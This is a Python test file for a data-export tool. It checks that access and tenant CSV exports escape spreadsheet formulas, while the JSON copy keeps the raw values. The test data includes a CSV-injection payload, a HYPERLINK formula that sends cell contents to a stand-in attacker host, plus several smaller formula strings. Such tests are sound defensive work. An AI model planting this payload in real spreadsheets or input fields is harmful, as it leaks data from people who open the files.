"""The CSVs of an access export and of a tenant export open safely in a spreadsheet (trial
6): a value that begins with ``=``, ``+``, ``-`` or ``@`` is written with a leading ``'``
(troth.csvsafe), so ``=HYPERLINK(...)`` is text, never a formula. data.json keeps every
value exactly as held, and a negative number stays a number."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from typing import Any

from requests_helpers import verified
from troth.access import actor_for
from troth.gate import SYSTEM
from troth.requests.states import RequestState

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
PW = "correct horse battery staple"


def _cells(zf: zipfile.ZipFile, name: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(zf.read(name).decode())))


def _formulas(zf: zipfile.ZipFile) -> list[tuple[str, str]]:
    """Every cell of every CSV in the ZIP that a spreadsheet would evaluate."""
    return [
        (name, cell)
        for name in zf.namelist()
        if name.endswith(".csv")
        for row in _cells(zf, name)
        for cell in row
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not _number(cell)
    ]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_an_access_export_writes_no_formula(home: Any, db_url: str) -> None:
    t = home("mindlink", db_url)
    email = "ann@example.com"
    t.collect(
        "purchase",
        {"name": EVIL, "email": email, "address": "+1+1", "product": "=1+1"},
    )
    t.collect("support_request", {"name": EVIL, "email": email, "message": "@SUM(1)"})
    done = t.requests.execute(verified(t, "access", email))
    assert done.state is RequestState.completed and done.download_token
    zf = zipfile.ZipFile(io.BytesIO(t.requests.download(done.download_token, actor=SYSTEM)))
    assert _formulas(zf) == []
    identity = _cells(zf, "categories/identity.csv")
    col = identity[0].index("value")
    assert {row[col] for row in identity[1:]} == {"'" + EVIL}
    purchases = _cells(zf, "categories/purchases.csv")
    assert purchases[1][purchases[0].index("value")] == "'=1+1"
    # The machine-readable copy is the data as held.
    doc = json.loads(zf.read("data.json"))
    assert doc["categories"]["identity"]["values"][0]["value"] == EVIL


def test_a_tenant_export_writes_no_formula(home: Any, db_url: str) -> None:
    t = home("phone-service", db_url)
    acme = t.access.tenants.create_tenant("Acme", "office@acme.example")
    sid = t.collect(
        "customer_signup",
        {"company_name": "-2+3", "name": EVIL, "email": "ann@acme.example"},
        tenant_id=acme,
    ).subject_id
    t.collect(
        "call_record_import",
        {"extension": "=7", "destination_number": "+441234567890", "duration_seconds": -61},
        subject_id=sid,
        tenant_id=acme,
    )
    tok, _ = t.access.tenants.invite(acme, "admin@example.com", role="admin")
    admin = actor_for(t.access.tenants.accept_invitation(tok, PW))
    link = t.requests.export_tenant(acme, actor=admin)
    zf = zipfile.ZipFile(io.BytesIO(t.requests.download(link.token, actor=SYSTEM)))
    assert _formulas(zf) == []
    calls = _cells(zf, f"people/{sid}/categories/call_records.csv")
    col = calls[0].index("value")
    assert {row[col] for row in calls[1:]} == {"-61", "'=7"}
    identity = _cells(zf, f"people/{sid}/categories/identity.csv")
    assert identity[1][identity[0].index("value")] == "'" + EVIL
